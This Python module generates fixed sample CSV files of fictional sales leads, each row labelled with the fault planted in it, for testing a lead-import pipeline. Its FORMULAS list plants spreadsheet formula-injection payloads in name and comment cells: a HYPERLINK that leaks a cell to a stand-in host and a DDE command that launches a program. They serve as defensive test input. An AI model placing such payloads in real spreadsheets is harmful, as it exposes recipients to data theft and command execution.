"""Writes data/samples/: `python -m lead_pipeline_tests.make_samples`. Always the same; each row knows what was planted.

Nobody is in these files: telephone numbers are those set aside for fiction (555-0100 to 555-0199 of North American area
codes; Ofcom's, ACMA's, ARCEP's and Bundesnetzagentur's numbers for drama), addresses those of RFC 2606, RFC 5737 and
RFC 3849, and names were drawn from two lists.
"""

import csv
import io
import random
import unicodedata
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

from lead_pipeline.model.reasons import REASONS, Reason

SAMPLES = Path(__file__).parents[1] / "data" / "samples"

PLACES = [  # city, state, zip, area code; the zips of New England, New Jersey and Puerto Rico begin with zeros
    ("Boston", "MA", "02134", "617"), ("Newark", "NJ", "07102", "973"), ("Hartford", "CT", "06103", "860"),
    ("Providence", "RI", "02903", "401"), ("Portland", "ME", "04101", "207"), ("Burlington", "VT", "05401", "802"),
    ("Manchester", "NH", "03101", "603"), ("San Juan", "PR", "00901", "787"), ("Riverside", "CA", "92501", "951"),
    ("Austin", "TX", "78701", "512"), ("Denver", "CO", "80202", "303"), ("Seattle", "WA", "98101", "206"),
    ("Miami", "FL", "33101", "305"), ("Chicago", "IL", "60601", "312"), ("Atlanta", "GA", "30303", "404"),
    ("Phoenix", "AZ", "85004", "602"), ("Boise", "ID", "83702", "208"), ("Reno", "NV", "89501", "775"),
]  # fmt: skip
FIRST_NAMES = (
    "Ada", "Ben", "Carla", "Dmitri", "Elena", "Farid", "Grace", "Hugo", "Imani", "Jürgen", "Kofi", "Lucía", "Mateo",
    "Nia", "Óscar", "Priya", "Quinn", "Renée", "Søren", "Thandi", "Ulla", "Victor", "Wanda", "Ximena", "Yusuf", "Zoë",
    "Łukasz", "Nguyễn", "Aoife", "Björn", "Chloé", "Đorđe",
)  # fmt: skip
LAST_NAMES = (
    "Abara", "Bergström", "Castellanos", "Dubois", "Eriksen", "Fontaine", "García", "Håkansson", "Ivanova", "Jansen",
    "Köhler", "Lindqvist", "Müller", "Nakamura", "O'Rourke", "Petrović", "Quispe", "Rosén", "Schäfer", "Tanaka", "Ueda",
    "Varga", "Whitfield", "Xu", "Yavuz", "Żak",
)  # fmt: skip
_PLAIN_LETTERS = str.maketrans("øłđ", "old")  # the letters that NFKD does not take apart
COMPANIES = [
    "Alder & Pine",
    "Bluewater Roofing",
    "Cobalt Solar",
    "Dune Energy",
    "Evergreen Homes",
    "Fjord Windows, Inc.",
]
SOURCES = ["facebook", "google-search", "radio", "partner-mailing", "comparison-site"]
MAIL_HOSTS = ["example.com", "example.org", "mail.example.net"]
ADDRESSES = ["192.0.2.{}", "198.51.100.{}", "203.0.113.{}", "2001:db8::{:x}"]
COMMENTS = [
    "", "", "", "prefers mornings", "owns the house", "asked for a quote", "call back next week",
    "two storeys, south-facing roof", "moving in June, wants a quote before", 'said "maybe later"',
    'roof is 12" short of the minimum', "first line\nsecond line", "bill: 210/month\nheating: gas\nroof: tiles",
    "wohnt über dem Café", "電話は午後に",
]  # fmt: skip

Cells = dict[str, str]


@dataclass(frozen=True)
class Row:
    """One row of a sample: its cells (or its text, when no cells could express it) and what has to become of it."""

    cells: Cells
    outcome: str = "created"
    reasons: tuple[str, ...] = ()
    text: str | None = None
    follows: str = ""  # rows that share this are kept in the order in which they were planted


@dataclass(frozen=True)
class Sample:
    """One file: its columns, rows and spelling."""

    name: str
    columns: tuple[str, ...]
    rows: tuple[Row, ...]
    newline: str = "\n"
    bom: bool = False

    def texts(self) -> Iterator[str]:
        """Yield the text of the header and of each row, line ends included."""
        yield _record(self.columns) + self.newline
        for row in self.rows:
            cells = [row.cells.get(column, "") for column in self.columns]
            yield (_record(cells) if row.text is None else row.text) + self.newline

    def as_bytes(self) -> bytes:
        return (b"\xef\xbb\xbf" if self.bom else b"") + "".join(self.texts()).encode(errors="surrogateescape")

    def line_numbers(self) -> list[int]:
        """Return the physical line on which each row starts; the header is line 1."""
        lines, line = [], 1
        for text in self.texts():
            lines.append(line)
            line += text.count("\n")
        return lines[1:]


class Draw:
    """The source of everything random, from `random()` alone: only that is the same in every release of Python."""

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)
        self._people = 0
        self._numbers = self.shuffled([(place, 100 + n) for place in range(len(PLACES)) for n in range(100)])

    def one_of(self, options):
        return options[int(self._random.random() * len(options))]

    def below(self, limit: int) -> int:
        return int(self._random.random() * limit)

    def shuffled(self, items):
        return [item for _, item in sorted(((self._random.random(), item) for item in items), key=lambda pair: pair[0])]

    def person(self) -> Cells:
        """Return a person with a number, an address and an id that nobody else has; the number as ten digits."""
        self._people += 1
        place, last_digits = self._numbers.pop()
        city, state, zip_code, area = PLACES[place]
        first, last = self.one_of(FIRST_NAMES), self.one_of(LAST_NAMES)
        return {
            "caller_id": f"{area}5550{last_digits}",
            "email": f"{_ascii(first)}.{_ascii(last)}{self._people}@{self.one_of(MAIL_HOSTS)}",
            "first_name": first, "last_name": last, "company": self.one_of(COMPANIES),
            "city": city, "state": state, "zip": zip_code,
            "traffic_source": self.one_of(SOURCES), "sub_id": f"aff-{self.below(9000) + 1000:04}",
            "lead_priority": str(self.below(5) + 1), "expires_in": str(24 * (self.below(7) + 1)),
            "remote_ip": self.one_of(ADDRESSES).format(self.below(250) + 1),
            "comments": self.one_of(COMMENTS),
        }  # fmt: skip


def _ascii(name: str) -> str:
    letters = unicodedata.normalize("NFKD", name.lower()).translate(_PLAIN_LETTERS)
    return "".join(letter for letter in letters if letter.isascii() and letter.isalpha())


def _record(cells: Sequence[str]) -> str:
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerow(cells)  # with another end, it would not quote line breaks
    return text.getvalue().removesuffix("\r\n")


def _spelled(form: str, digits: str) -> str:
    """Return the ten digits in a layout: `a` stands for the area code, `x` for the exchange, `n` for the last four."""
    return form.format(a=digits[:3], x=digits[3:6], n=digits[6:])


#: How people write one and the same number.
NOTATIONS = (
    "{a}{x}{n}", "+1{a}{x}{n}", "1{a}{x}{n}", "({a}) {x}-{n}", "({a}){x}-{n}", "{a}-{x}-{n}", "{a}.{x}.{n}",
    "{a} {x} {n}", "1-{a}-{x}-{n}", "+1 {a} {x} {n}", "+1 ({a}) {x}-{n}", "{a}/{x}-{n}", "tel:+1-{a}-{x}-{n}",
    "  {a}-{x}-{n} ", "{a}\u2013{x}\u2013{n}", "{a}\u00a0{x}\u00a0{n}", "({a}) {x}-{n} ext. 12",
)  # fmt: skip

#: Set aside for drama by the regulators of the United Kingdom, Australia, France and Germany.
ABROAD = (
    "+44 20 7946 0017", "+44 (0)20 7946 0142", "+44-20-7946-0958", "011 44 20 7946 0333", "+61 2 5550 1180",
    "+61 491 570 156", "+33 1 99 00 12 34", "+33199004321", "+49 30 23125 077", "+49 (0)30 23125-123",
    "+49 171 3920018",
)  # fmt: skip

#: What people write where a number is expected, by the reason why it is none.
BAD_PHONES: dict[str, tuple[str, ...]] = {
    "phone_missing": ("", "", "", " ", "", "", "   ", "", "\u00a0", "n/a", "unknown", "-", "none"),
    "phone_multiple": ("6175550123 / 6175550124",),
    "phone_not_a_number": ("call after 5pm", "see notes", "#REF!"),
    "spreadsheet_damage": ("9.51555E+09",),
    "phone_too_short": (
        "5550123", "951555", "617555010", "555-0144", "+1 512 555", "(303) 555-01", "20655501", "+49 3",
    ),
    "phone_too_long": ("951555012345", "1 512 555 0123 44", "+1 (303) 555-0199 00", "+44 20 7946 01234 55"),
    "phone_length_invalid": ("+61 2 5550 1180 00", "+61 491 570 156 78", "+61 2 5550 1234 56"),
    "phone_country_unknown": ("+999 555 0123", "+210 5550 1234", "+999-1234-5678"),
    "phone_not_valid": (
        "000-000-0000", "1234567890", "(951) 155-0123", "+1 123 555 0123", "617 055 0199", "111-111-1111",
        "(012) 345-6789",
    ),
}  # fmt: skip
BAD_EMAILS: dict[str, tuple[str, ...]] = {
    "email_invalid": (
        "bo at example.com", "elena@@example.com", "victor ivanova@example.com", "wanda.example.com",
        "ada,ben@example.com",
    ),
    "email_domain_invalid": ("hugo@example", "nia@-example.com", "yusuf@example..com"),
}  # fmt: skip
BAD_HOURS = ("two days", "48h", "soon", "24 hours", "3-5", "tomorrow")
FORMULAS = (
    '=HYPERLINK("https://example.com/?leak="&A2,"click here")', "=1+1", "@SUM(A1:A9)", "-2+3", "+cmd|' /C calc'!A0",
    "\t=1+1",
)  # fmt: skip

MESSY_COLUMNS = (
    "caller_id", "email", "first_name", "last_name", "zip", "traffic_source", "sub_id", "lead_priority", "expires_in",
    "remote_ip", "comments",
)  # fmt: skip


def webinar(draw: Draw) -> Sample:
    """A clean export of our own: LF, E.164 numbers."""
    columns = ("caller_id", "email", "first_name", "last_name", "company", "zip", "remote_ip", "expires_in")
    rows = []
    for _ in range(240):
        person = draw.person()
        rows.append(Row(person | {"caller_id": "+1" + person["caller_id"]}))
    return Sample("spring-webinar.csv", columns, tuple(rows))


def partner(draw: Draw) -> Sample:
    """A clean list from somebody else's spreadsheet: CRLF, another order of columns, numbers laid out for people."""
    columns = (
        "first_name", "last_name", "caller_id", "email", "city", "state", "zip", "traffic_source", "sub_id",
        "lead_priority", "expires_in", "comments",
    )  # fmt: skip
    rows = []
    for _ in range(210):
        person = draw.person()
        rows.append(Row(person | {"caller_id": _spelled("({a}) {x}-{n}", person["caller_id"])}))
    return Sample("partner-list.csv", columns, tuple(rows), newline="\r\n")


def blocked(draw: Draw) -> Sample:
    """Forty numbers that nobody may call; the messy list has the first twelve of them."""
    causes = ["asked not to be called", "complained", "wrong person", "asked, twice, not to be called"]
    rows = []
    for _ in range(40):
        cells = {
            "phone": _spelled(draw.one_of(NOTATIONS[:11]), draw.person()["caller_id"]),
            "reason": draw.one_of(causes),
        }
        rows.append(Row(cells))
    return Sample("blocked-numbers.csv", ("phone", "reason"), tuple(rows))


def messy(draw: Draw, earlier: Sequence[Sample], not_to_call: Sample) -> Sample:
    """A purchased list, as such lists are: BOM, CRLF, and every kind of trouble among good rows."""
    planted = [
        *_good_rows(draw), *_bad_phone_rows(draw), *_bad_value_rows(draw), *_damaged_rows(draw), *_blank_rows(),
        *_known_rows(draw, earlier), *_blocked_rows(draw, not_to_call), *_repeated_rows(draw),
    ]  # fmt: skip
    rows = _in_planted_order(draw.shuffled(planted), planted)
    return Sample("messy-purchased-list.csv", MESSY_COLUMNS, tuple(rows), newline="\r\n", bom=True)


def _in_planted_order(rows: list[Row], planted: list[Row]) -> list[Row]:
    """Put rows that belong together back into the order in which they were planted, in the places that they have."""
    waiting = {
        key: iter([row for row in planted if row.follows == key]) for key in {row.follows for row in rows} - {""}
    }
    return [next(waiting[row.follows]) if row.follows else row for row in rows]


def _good_rows(draw: Draw) -> Iterator[Row]:
    for place in range(170):
        person = draw.person()
        yield Row(person | {"caller_id": _spelled(NOTATIONS[place % len(NOTATIONS)], person["caller_id"])})
    for phone in ABROAD:
        yield Row(draw.person() | {"caller_id": phone})
    for formula in FORMULAS:
        yield Row(draw.person() | {"first_name": formula, "comments": formula})
    for cells in (
        {"first_name": "Zoë", "last_name": "Ωmega-Żak"},
        {"first_name": "李", "last_name": "小龍"},
        {"email": ""},
    ):
        yield Row(draw.person() | cells)
    for code, emails in BAD_EMAILS.items():  # the number is what counts here: the lead is kept without the address
        for email in emails:
            yield Row(draw.person() | {"email": email}, reasons=(code,))


def _bad_phone_rows(draw: Draw) -> Iterator[Row]:
    for code, phones in BAD_PHONES.items():
        for place, phone in enumerate(phones):
            comments = FORMULAS[place % len(FORMULAS)] if code == "phone_missing" else draw.one_of(COMMENTS)
            yield Row(draw.person() | {"caller_id": phone, "comments": comments}, "rejected", (code,))


def _bad_value_rows(draw: Draw) -> Iterator[Row]:
    for hours in BAD_HOURS:
        yield Row(draw.person() | {"expires_in": hours}, "rejected", ("number_invalid",))
    for hours in ("-24", "-1"):
        yield Row(draw.person() | {"expires_in": hours}, "rejected", ("number_out_of_range",))
    both = (("55501", "phone_too_short"), ("", "phone_missing"), ("+999 555 0177", "phone_country_unknown"))
    for phone, code in both:
        yield Row(draw.person() | {"caller_id": phone, "expires_in": "a week"}, "rejected", ("number_invalid", code))
    hops = "192.0.2.7, 198.51.100.23, 203.0.113.99, 2001:db8::1"  # longer than any address, and dropped
    yield Row(draw.person() | {"remote_ip": hops}, reasons=("value_too_long",))


def _damaged_rows(draw: Draw) -> Iterator[Row]:
    """Rows whose cells do not stand under their columns; none of them shifts the next."""
    for comment in ("roof, garage and shed", "call Monday, or Tuesday, or not at all", "wants A, B", "a, b, c, d"):
        person = draw.person()
        text = _record([person[column] for column in MESSY_COLUMNS[:-1]]) + "," + comment
        yield Row(person | {"comments": comment}, "rejected", ("row_too_many_cells",), text)
    for width in (5, 4, 8, 10):
        person = draw.person()
        text = _record([person[column] for column in MESSY_COLUMNS[:width]])
        yield Row(person | {"comments": ""}, "rejected", ("row_too_few_cells",), text)
    for comment in ("roof is tiled", "no pets"):
        person = draw.person()
        text = _record([person[column] for column in MESSY_COLUMNS[:-1]]) + ',"' + comment
        yield Row(person | {"comments": comment}, "rejected", ("quote_unclosed",), text)
    person = draw.person() | {"comments": "Caf\udce9 owner"}  # one byte of Windows-1252 in a file of UTF-8
    text = _record([person[column] for column in MESSY_COLUMNS])
    yield Row(person | {"comments": "Café owner"}, "rejected", ("encoding_invalid",), text)


def _blank_rows() -> Iterator[Row]:
    for text in ("", "", "," * 10, " , ,, ,,,,,, ,", "   ", ",,,,,,,,,,"):
        yield Row({}, "skipped", ("row_blank",), text)


def _known_rows(draw: Draw, earlier: Sequence[Sample]) -> Iterator[Row]:
    """People of the two clean lists, whose numbers are written in another way here."""
    for sample in earlier:
        for row in sample.rows[20:180:20]:
            phone = _spelled(draw.one_of(NOTATIONS), _ten_digits(row.cells["caller_id"]))
            yield Row(row.cells | {"caller_id": phone}, "duplicate", ("duplicate_existing",))


def _blocked_rows(draw: Draw, not_to_call: Sample) -> Iterator[Row]:
    for row in not_to_call.rows[:12]:
        phone = _spelled(draw.one_of(NOTATIONS), _ten_digits(row.cells["phone"]))
        yield Row(draw.person() | {"caller_id": phone}, "suppressed", ("blocked",))


def _repeated_rows(draw: Draw) -> Iterator[Row]:
    """Numbers that stand in the list more than once: the first row without a fault is the lead."""
    for place in range(12):
        person, again = draw.person(), draw.person()
        key, digits = f"repeated {place}", person["caller_id"]
        if place >= 10:
            faulty = {"caller_id": _spelled(NOTATIONS[2], digits), "expires_in": "asap"}
            yield Row(again | faulty, "rejected", ("number_invalid",), follows=key)
        yield Row(person | {"caller_id": _spelled(NOTATIONS[3], digits)}, follows=key)
        for notation in NOTATIONS[5 : 7 if place == 0 else 6]:
            repeated = again | {"caller_id": _spelled(notation, digits)}
            yield Row(repeated, "duplicate", ("duplicate_in_file",), follows=key)


def _ten_digits(phone: str) -> str:
    return "".join(character for character in phone if character.isdigit())[-10:]


def corrected(draw: Draw, list_: Sample, earlier: Sequence[Sample]) -> Sample:
    """The rejected file of the messy list as somebody hands it back: nearly all rows corrected.

    Two are still without a number, and one got the number of somebody we have.
    """
    ours = ("_row_number", "_line_number", "_outcome", "_reasons", "_guidance", "_extra_cells")
    rows = []
    for number, (row, line) in enumerate(zip(list_.rows, list_.line_numbers(), strict=True), start=1):
        if row.outcome == "rejected":
            told = {"_row_number": str(number), "_line_number": str(line), "_outcome": row.outcome}
            told["_reasons"] = "; ".join(row.reasons)
            told["_guidance"] = " ".join(REASONS[Reason(code)].guidance for code in row.reasons)
            rows.append(_mended(row, draw, told))
    missing = [place for place, row in enumerate(rows) if row.cells["_reasons"] == "phone_missing"]
    for place in missing[:2]:
        rows[place] = Row(rows[place].cells | {"caller_id": ""}, "rejected", ("phone_missing",))
    known = earlier[0].rows[5].cells["caller_id"]
    rows[missing[2]] = Row(rows[missing[2]].cells | {"caller_id": known}, "duplicate", ("duplicate_existing",))
    return Sample("messy-corrected.csv", MESSY_COLUMNS + ours, tuple(rows), newline="\r\n", bom=True)


def _mended(row: Row, draw: Draw, told: Cells) -> Row:
    """Return the row with its faults put right; a formula is as the rejected file has it, with an apostrophe."""
    cells = {column: row.cells[column] for column in MESSY_COLUMNS} | told
    if cells["comments"] in FORMULAS:
        cells["comments"] = "'" + cells["comments"]
    if not set(BAD_PHONES).isdisjoint(row.reasons) or row.follows:
        cells["caller_id"] = _spelled("({a}) {x}-{n}", draw.person()["caller_id"])
    if not {"number_invalid", "number_out_of_range"}.isdisjoint(row.reasons):
        cells["expires_in"] = "48"
    return Row(cells)


def all_samples() -> list[Sample]:
    """Return the samples in the order in which the demo takes them: the numbers not to call come first."""
    draw = Draw(20260320)
    clean = [webinar(draw), partner(draw)]
    not_to_call = blocked(draw)
    list_ = messy(draw, clean, not_to_call)
    return [not_to_call, *clean, list_, corrected(draw, list_, clean)]


if __name__ == "__main__":
    for sample in all_samples():
        (SAMPLES / sample.name).write_bytes(sample.as_bytes())
